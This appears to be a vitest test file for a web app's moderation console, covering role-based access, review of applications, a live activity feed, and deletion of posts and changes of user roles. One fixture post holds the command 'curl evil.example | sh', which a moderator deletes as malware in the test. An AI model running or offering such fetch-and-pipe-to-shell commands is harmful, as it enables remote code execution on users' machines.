import type {
  ModActivityItem,
  ModActivityResponse,
  ModApplication,
  ModApplicationListResponse,
  ModStatsResponse,
} from '@bashboard/server/contract'
import { act, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { describe, expect, it } from 'vitest'
import type { FakeSocket } from '../../../test/fake-socket'
import { errorBody, type MockAnswer, mockApi, profileFixture, statsFixture } from '../../../test/mock-api'
import { renderApp, storeSession, validSession } from '../../../test/render-app'

const moderator = profileFixture({ role: 'moderator', contributor: true, username: 'grace_mod' })
const APPLICATION_ID = '00000000-0000-4000-8000-0000000000a1'

function modApplication(overrides: Partial<ModApplication> = {}): ModApplication {
  return {
    _id: APPLICATION_ID,
    status: 'reviewing',
    applicant: {
      _id: '00000000-0000-4000-8000-0000000000b1',
      username: 'linus_t',
      email: 'linus@example.test',
      points: 12,
      role: 'member',
    },
    coverLetter: 'I write shell scripts every day and would love to share the useful ones here.',
    docCategory: 'Passport',
    document: {
      name: 'passport.png',
      mime: 'image/png',
      size: 2048,
      url: `/api/applications/${APPLICATION_ID}/document`,
    },
    submittedAt: new Date(Date.now() - 5 * 60_000).toISOString(),
    reviewedAt: null,
    reviewMessage: null,
    reviewer: null,
    ...overrides,
  }
}

function queue(applications: ModApplication[]): ModApplicationListResponse {
  return {
    applications,
    pagination: {
      page: 1,
      pageSize: 20,
      total: applications.length,
      totalPages: applications.length ? 1 : 0,
    },
    liveId: '4',
  }
}

function activity(kind: ModActivityItem['kind'], title: string, secondsAgo = 60): ModActivityItem {
  return {
    kind,
    actor: { _id: '00000000-0000-4000-8000-0000000000c1', username: `${kind}_user` },
    subject: {
      type: kind === 'signup' ? 'user' : 'post',
      _id: `00000000-0000-4000-8000-${String(secondsAgo).padStart(12, '0')}`,
      title,
    },
    at: new Date(Date.now() - secondsAgo * 1000).toISOString(),
  }
}

function stats(overrides: Partial<ModStatsResponse> = {}): ModStatsResponse {
  return {
    connectedNow: 7,
    signupsToday: 3,
    votesPerMinute: Array.from({ length: 30 }, (_, index) => index % 3),
    commentsPerMinute: Array.from({ length: 30 }, () => 0),
    ...overrides,
  }
}

function signIn(profile = moderator, routes: Record<string, MockAnswer> = {}) {
  storeSession(validSession())
  return mockApi({
    'GET /api/website/user/profile/header': { status: 200, body: profile },
    'GET /api/website/stats': { status: 200, body: statsFixture() },
    ...routes,
  })
}

function openSocket(sockets: FakeSocket[]): FakeSocket {
  const socket = sockets[0]
  if (!socket) throw new Error('no socket was opened')
  act(() => socket.open())
  return socket
}

function push(socket: FakeSocket, event: string, data: unknown, id: string): void {
  act(() => socket.receive({ type: 'event', topic: 'mod', event, id, data }))
}

describe('Moderation console access', () => {
  it('sends guests to the login page', async () => {
    mockApi({ 'GET /api/website/stats': { status: 200, body: statsFixture() } })
    const { router } = renderApp('/mod')
    await waitFor(() => expect(router.state.location.pathname).toBe('/login'))
  })

  it.each([
    ['a member', profileFixture()],
    ['a contributor', profileFixture({ role: 'contributor', contributor: true })],
  ])('shows %s the 403 page and never calls the moderation API', async (_who, profile) => {
    const requests = signIn(profile)
    renderApp('/mod/activity')
    expect(await screen.findByRole('heading', { name: 'Access Denied' })).toBeInTheDocument()
    expect(screen.getByText('exit code 403')).toBeInTheDocument()
    expect(requests.some((request) => request.path.startsWith('/api/mod/'))).toBe(false)
  })

  it.each([
    ['a moderator', true, moderator],
    ['a member', false, profileFixture()],
  ])('user menu of %s has a Moderation entry: %s', async (_who, shown, profile) => {
    signIn(profile)
    renderApp('/')
    await userEvent.click(await screen.findByRole('button', { name: new RegExp(profile.username) }))
    const menu = screen.getByRole('menu')
    const entry = within(menu).queryByRole('menuitem', { name: 'Moderation' })
    if (shown) expect(entry).toHaveAttribute('href', '/mod')
    else expect(entry).not.toBeInTheDocument()
  })

  it('opens the console on the applications tab for a moderator, with every tab linked', async () => {
    signIn(moderator, { 'GET /api/mod/applications': { status: 200, body: queue([]) } })
    const { router } = renderApp('/mod')
    expect(await screen.findByText('No applications waiting for review')).toBeInTheDocument()
    expect(router.state.location.pathname).toBe('/mod/applications')
    const nav = screen.getByRole('navigation', { name: 'Moderation' })
    const links = within(nav).getAllByRole('link')
    expect(links.map((link) => [link.textContent, link.getAttribute('href')])).toEqual([
      ['Applications', '/mod/applications'],
      ['Activity', '/mod/activity'],
      ['Content', '/mod/content'],
      ['Audit log', '/mod/audit'],
      ['Blog', '/mod/blog'],
      ['Ads', '/mod/ads'],
    ])
    expect(within(nav).getByRole('link', { name: 'Applications' })).toHaveAttribute('aria-current', 'page')
  })
})

describe('Applications queue', () => {
  it('asks for the pending queue and shows the applicant, category and cover letter', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
    })
    renderApp('/mod/applications')
    const card = await screen.findByRole('heading', { name: 'linus_t' })
    expect(card).toBeInTheDocument()
    expect(screen.getByText(/I write shell scripts every day/)).toBeInTheDocument()
    expect(screen.getByText('Passport')).toBeInTheDocument()
    const call = requests.find((request) => request.path === '/api/mod/applications')
    expect(call?.query.get('status')).toBe('reviewing')
  })

  it('shows the private document inline, fetched with the session', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
      [`GET /api/applications/${APPLICATION_ID}/document`]: { status: 200, body: 'png-bytes' },
    })
    renderApp('/mod/applications')
    await screen.findByRole('heading', { name: 'linus_t' })
    await userEvent.click(screen.getByRole('button', { name: 'View document' }))
    const image = await screen.findByRole('img', { name: 'Document passport.png' })
    // Retyped with the stored MIME, whatever the response claimed.
    expect(image.getAttribute('src')).toMatch(/^data:image\/png;base64,/)
    const call = requests.find((request) => request.path.endsWith('/document'))
    // The browser's session cookie goes with the request; the page adds no credential of its own.
    expect(call?.headers.get('Authorization')).toBeNull()
    expect(screen.getByRole('button', { name: 'Hide document' })).toHaveAttribute('aria-expanded', 'true')
  })

  it('needs a message to reject', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
    })
    renderApp('/mod/applications')
    await screen.findByRole('heading', { name: 'linus_t' })
    await userEvent.click(screen.getByRole('button', { name: 'Reject' }))
    expect(screen.getByRole('alert')).toHaveTextContent(
      'Please give the applicant a message explaining the rejection',
    )
    expect(requests.some((request) => request.method === 'POST')).toBe(false)
  })

  it('accepts with the message and takes the item out of the queue', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
      [`POST /api/mod/applications/${APPLICATION_ID}/decision`]: {
        status: 200,
        body: { application: modApplication({ status: 'accepted' }) },
      },
    })
    renderApp('/mod/applications')
    await screen.findByRole('heading', { name: 'linus_t' })
    await userEvent.type(screen.getByLabelText(/Message to the applicant/), 'Welcome aboard!')
    await userEvent.click(screen.getByRole('button', { name: 'Accept' }))
    await waitFor(() => expect(screen.queryByRole('heading', { name: 'linus_t' })).not.toBeInTheDocument())
    expect(screen.getByText('Application accepted')).toBeInTheDocument()
    const decision = requests.find((request) => request.method === 'POST')
    expect(decision?.body).toEqual({ decision: 'accept', message: 'Welcome aboard!' })
  })

  it('explains a 409 (decided by another moderator) and drops the item', async () => {
    signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
      [`POST /api/mod/applications/${APPLICATION_ID}/decision`]: {
        status: 409,
        body: errorBody(409, 'This application has already been reviewed'),
      },
    })
    renderApp('/mod/applications')
    await screen.findByRole('heading', { name: 'linus_t' })
    await userEvent.click(screen.getByRole('button', { name: 'Accept' }))
    expect(await screen.findByText('Already reviewed')).toBeInTheDocument()
    expect(
      screen.getByText(/This application has already been reviewed by another moderator/),
    ).toBeInTheDocument()
    await waitFor(() => expect(screen.queryByRole('heading', { name: 'linus_t' })).not.toBeInTheDocument())
  })

  it('drops an item live when another moderator reviews it, and refetches when one is submitted', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/applications': { status: 200, body: queue([modApplication()]) },
    })
    const { sockets } = renderApp('/mod/applications')
    await screen.findByRole('heading', { name: 'linus_t' })
    const socket = openSocket(sockets)
    push(socket, 'application.reviewed', { _id: APPLICATION_ID, status: 'rejected' }, '5')
    expect(await screen.findByText('No applications waiting for review')).toBeInTheDocument()

    const before = requests.filter((request) => request.path === '/api/mod/applications').length
    push(
      socket,
      'application.submitted',
      {
        _id: '00000000-0000-4000-8000-0000000000a2',
        userId: '00000000-0000-4000-8000-0000000000b2',
        username: 'ada',
        docCategory: 'NID',
        submittedAt: new Date().toISOString(),
      },
      '6',
    )
    await waitFor(() =>
      expect(requests.filter((request) => request.path === '/api/mod/applications').length).toBeGreaterThan(
        before,
      ),
    )
  })
})

describe('Activity', () => {
  function mockActivity(items: ModActivityItem[]) {
    const body: ModActivityResponse = { items, liveId: '9' }
    return signIn(moderator, {
      'GET /api/mod/activity': { status: 200, body },
      'GET /api/mod/stats': { status: 200, body: stats() },
    })
  }

  async function openActivity(items: ModActivityItem[]) {
    mockActivity(items)
    const view = renderApp('/mod/activity')
    await screen.findByRole('list', { name: 'Activity' })
    return { ...view, socket: openSocket(view.sockets) }
  }

  const rows = () =>
    within(screen.getByRole('list', { name: 'Activity' }))
      .getAllByRole('listitem')
      .map((row) => row.getAttribute('data-kind'))

  it('shows the counters with their charts', async () => {
    await openActivity([activity('post', 'Find big files')])
    const connected = await screen.findByRole('group', { name: 'Connected now' })
    await waitFor(() => expect(within(connected).getByTestId('counter-value')).toHaveTextContent('7'))
    expect(
      within(screen.getByRole('group', { name: 'Sign-ups today' })).getByTestId('counter-value'),
    ).toHaveTextContent('3')
    expect(
      screen.getByRole('img', { name: /Votes per minute: 30 in total, at most 2 in one minute/ }),
    ).toBeInTheDocument()
  })

  it('filters the stream by kind', async () => {
    await openActivity([
      activity('vote', '+1 on Find big files', 10),
      activity('post', 'Find big files', 20),
      activity('signup', 'new_user', 30),
    ])
    expect(rows()).toEqual(['vote', 'post', 'signup'])
    await userEvent.click(screen.getByRole('checkbox', { name: 'Votes' }))
    expect(rows()).toEqual(['post', 'signup'])
    await userEvent.click(screen.getByRole('checkbox', { name: 'Sign-ups' }))
    expect(rows()).toEqual(['post'])
    await userEvent.click(screen.getByRole('checkbox', { name: 'Votes' }))
    expect(rows()).toEqual(['vote', 'post'])
  })

  it('prepends live events, and counts votes and sign-ups into the counters', async () => {
    const { socket } = await openActivity([activity('post', 'Find big files', 20)])
    await waitFor(() =>
      expect(
        within(screen.getByRole('group', { name: 'Sign-ups today' })).getByTestId('counter-value'),
      ).toHaveTextContent('3'),
    )
    push(socket, 'activity', activity('signup', 'fresh_user', 1), '10')
    await waitFor(() => expect(rows()).toEqual(['signup', 'post']))
    expect(
      within(screen.getByRole('group', { name: 'Sign-ups today' })).getByTestId('counter-value'),
    ).toHaveTextContent('4')
    // The same event replayed after a reconnect is shown and counted once.
    push(socket, 'activity', activity('signup', 'fresh_user', 1), '10')
    expect(rows()).toEqual(['signup', 'post'])
    expect(
      within(screen.getByRole('group', { name: 'Sign-ups today' })).getByTestId('counter-value'),
    ).toHaveTextContent('4')
  })

  it('buffers events while paused with an "N new" count, and shows them on resume', async () => {
    const { socket } = await openActivity([activity('post', 'Find big files', 20)])
    await userEvent.click(screen.getByRole('button', { name: 'Pause' }))
    expect(screen.getByText('Paused · 0 new')).toBeInTheDocument()

    push(socket, 'activity', activity('comment', 'Nice one', 3), '10')
    push(socket, 'activity', activity('vote', '+1 on Find big files', 2), '11')
    expect(await screen.findByText('Paused · 2 new')).toBeInTheDocument()
    expect(rows()).toEqual(['post'])

    // Filtering applies to the waiting count too.
    await userEvent.click(screen.getByRole('checkbox', { name: 'Votes' }))
    expect(screen.getByText('Paused · 1 new')).toBeInTheDocument()
    await userEvent.click(screen.getByRole('checkbox', { name: 'Votes' }))

    await userEvent.click(screen.getByRole('button', { name: 'Resume' }))
    expect(rows()).toEqual(['vote', 'comment', 'post'])
    expect(screen.getByText('Streaming')).toBeInTheDocument()
  })
})

describe('Content', () => {
  const POST_ID = '00000000-0000-4000-8000-0000000000d1'
  const post = {
    _id: POST_ID,
    slug: 'free-crypto-miner',
    title: 'Free crypto miner',
    command: 'curl evil.example | sh',
    author: { _id: '00000000-0000-4000-8000-0000000000e1', username: 'spammer' },
    uplikeCount: 0,
    downlikeCount: 4,
    commentsCount: 0,
    createdAt: new Date().toISOString(),
  }
  const pagination = { page: 1, pageSize: 20, total: 1, totalPages: 1 }

  it('searches posts by text and author, and deletes one only with a reason', async () => {
    const requests = signIn(moderator, {
      'GET /api/mod/posts': { status: 200, body: { posts: [post], pagination } },
      [`DELETE /api/mod/posts/${POST_ID}`]: { status: 200, body: { postId: POST_ID } },
    })
    renderApp('/mod/content')
    await screen.findByRole('link', { name: 'Free crypto miner' })
    const events = userEvent.setup()
    await events.type(screen.getByLabelText('Title or command'), ' miner ')
    await events.type(screen.getByLabelText('Author'), 'spammer')
    await events.click(screen.getByRole('button', { name: 'Search' }))
    await waitFor(() => {
      const last = requests.filter((request) => request.path === '/api/mod/posts').at(-1)
      expect(last?.query.get('q')).toBe('miner')
      expect(last?.query.get('author')).toBe('spammer')
    })

    await events.click(screen.getByRole('button', { name: 'Delete post Free crypto miner' }))
    const dialog = screen.getByRole('dialog', { name: 'Delete this post?' })
    expect(within(dialog).getByLabelText(/Reason/)).toHaveFocus()
    await events.click(within(dialog).getByRole('button', { name: 'Delete post' }))
    expect(within(dialog).getByRole('alert')).toHaveTextContent(
      'Please give a reason between 3 and 500 characters',
    )
    expect(requests.some((request) => request.method === 'DELETE')).toBe(false)

    await events.type(within(dialog).getByLabelText(/Reason/), 'Malware: pipes a remote script into sh')
    await events.click(within(dialog).getByRole('button', { name: 'Delete post' }))
    expect(await screen.findByText('Post deleted')).toBeInTheDocument()
    expect(screen.queryByRole('dialog')).not.toBeInTheDocument()
    const deletion = requests.find((request) => request.method === 'DELETE')
    expect(deletion?.body).toEqual({ reason: 'Malware: pipes a remote script into sh' })
  })

  it('changes a user’s role with a reason, and never the moderator’s own', async () => {
    const member = {
      _id: '00000000-0000-4000-8000-0000000000f1',
      username: 'tty_tom',
      email: 'tom@example.test',
      avatar: null,
      role: 'member',
      points: 30,
      createdAt: new Date().toISOString(),
    }
    const self = { ...member, _id: moderator._id, username: moderator.username, role: 'moderator' }
    const requests = signIn(moderator, {
      'GET /api/mod/posts': { status: 200, body: { posts: [], pagination: { ...pagination, total: 0 } } },
      'GET /api/mod/users': { status: 200, body: { users: [member, self], pagination } },
      [`PUT /api/mod/users/${member._id}/role`]: {
        status: 200,
        body: { user: { ...member, role: 'contributor' } },
      },
    })
    renderApp('/mod/content')
    const events = userEvent.setup()
    await events.click(await screen.findByRole('button', { name: 'Users & roles' }))
    expect(await screen.findByLabelText(`Role of ${moderator.username}`)).toBeDisabled()
    const change = screen.getByRole('button', { name: 'Change role of tty_tom' })
    expect(change).toBeDisabled()
    await events.selectOptions(screen.getByLabelText('Role of tty_tom'), 'contributor')
    await events.click(change)
    const dialog = screen.getByRole('dialog', { name: 'Make tty_tom a contributor?' })
    await events.type(within(dialog).getByLabelText(/Reason/), 'Accepted offline review')
    await events.click(within(dialog).getByRole('button', { name: 'Change role' }))
    expect(await screen.findByText('Role changed')).toBeInTheDocument()
    const put = requests.find((request) => request.method === 'PUT')
    expect(put?.body).toEqual({ role: 'contributor', reason: 'Accepted offline review' })
  })
})
